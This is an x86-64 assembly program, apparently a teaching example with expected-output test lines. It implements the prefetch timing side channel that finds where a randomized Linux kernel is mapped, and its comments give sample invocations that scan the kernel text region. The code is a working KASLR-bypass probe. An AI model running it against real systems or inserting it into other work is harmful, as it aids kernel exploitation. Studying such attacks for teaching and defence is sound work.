# kaslr_timing: which pages of the kernel are mapped, by the time of a prefetch
#
# What it teaches: a prefetch of an address that we may not use does nothing and never faults. But it asks
# for the translation. That of a page which is mapped stays in the TLB, and the next prefetch is
# quick; where nothing is mapped, the page tables are walked again each time (Gruss et al., Prefetch
# Side-Channel Attacks, 2016). So a kernel that hides at a random place is found. Page-table
# isolation takes it out of the user's page table; what remains is the trampoline, the code by which the
# kernel is entered.
#
# Try:  cr3 run programs/kaslr_timing.asm --pti off -- ffffffff80000000 100000 200
#       tries the 512 places where Linux may put its text, each 2 MiB apart, and all others between;
#       cr3 run programs/kaslr_timing.asm --pti on -- ffffffff81000000 1000 200
#       looks page by page at the text, of which user mode needs little. All numbers are hexadecimal.
#
# expect: exit 2
# expect stdout: usage: kaslr_timing ADDRESS STEP COUNT (hexadecimal)

    .equ    TRIES, 4                    # an interrupt may spoil one
    .equ    SLACK, 2                    # cycles by which two equal things may differ

    .section .rodata
usage:
    .ascii  "usage: kaslr_timing ADDRESS STEP COUNT (hexadecimal)\n"
    .equ    USAGE, . - usage
mapped:
    .ascii  " is mapped\n"
    .equ    MAPPED, . - mapped

    .bss
    .balign 4096
own:                                    # a page of ours, to know how quick a translation can be
    .skip   4096
line:
    .skip   64

    .text
    .globl  _start
_start:
    cmp     qword ptr [rsp], 4          # argc
    jne     wrong
    mov     rsi, [rsp + 16]
    call    parse
    mov     r12, rax                    # address
    mov     rsi, [rsp + 24]
    call    parse
    mov     r13, rax                    # step
    mov     rsi, [rsp + 32]
    call    parse
    mov     r14, rax                    # how many

    lea     rbx, [rip + own]
    mov     byte ptr [rbx], 1
    call    time_prefetch
    lea     ebp, [r15d + SLACK]         # what a prefetch takes whose translation is there

probe:
    test    r14, r14
    jz      done
    mov     rbx, r12
    call    time_prefetch
    cmp     r15d, ebp
    ja      not_mapped
    call    report
not_mapped:
    add     r12, r13
    dec     r14
    jmp     probe

done:
    xor     edi, edi
    mov     eax, 60                     # exit
    syscall
wrong:
    mov     edi, 1
    lea     rsi, [rip + usage]
    mov     edx, offset USAGE
    mov     eax, 1                      # write
    syscall
    mov     edi, 2
    mov     eax, 60
    syscall

# time_prefetch: r15d = the least cycles of some prefetches of rbx, after a first one. Changes rax, rcx, rdx, rdi, r8.
time_prefetch:
    prefetcht0 [rbx]                    # now the translation is in the TLB, if there is one
    mov     r15d, -1
    mov     edi, TRIES
again:
    mfence
    rdtscp
    mov     r8d, eax
    prefetcht0 [rbx]
    rdtscp
    sub     eax, r8d
    cmp     eax, r15d
    cmovb   r15d, eax
    dec     edi
    jnz     again
    ret

# report: write the address in rbx. Changes rax, rcx, rdx, rsi, rdi, r8, r11.
report:
    lea     rsi, [rip + line]
    mov     r8, rbx
    mov     ecx, 16                     # digits
digit:
    rol     r8, 4
    mov     eax, r8d
    and     eax, 15
    cmp     eax, 10
    jb      decimal
    add     eax, 39                     # "a" is ten
decimal:
    add     eax, 48                     # "0"
    mov     [rsi], al
    inc     rsi
    dec     ecx
    jnz     digit
    mov     edi, 1
    lea     rsi, [rip + line]
    mov     edx, 16
    mov     eax, 1
    syscall
    lea     rsi, [rip + mapped]
    mov     edx, offset MAPPED
    mov     eax, 1
    syscall
    ret

# parse: rax = the hexadecimal number at rsi. Changes rcx, rsi.
parse:
    xor     eax, eax
next:
    movzx   ecx, byte ptr [rsi]
    inc     rsi
    sub     ecx, 48                     # "0"
    js      parsed                      # the end
    cmp     ecx, 10
    jb      add_digit
    sub     ecx, 39                     # "a" is ten
add_digit:
    shl     rax, 4
    add     rax, rcx
    jmp     next
parsed:
    ret
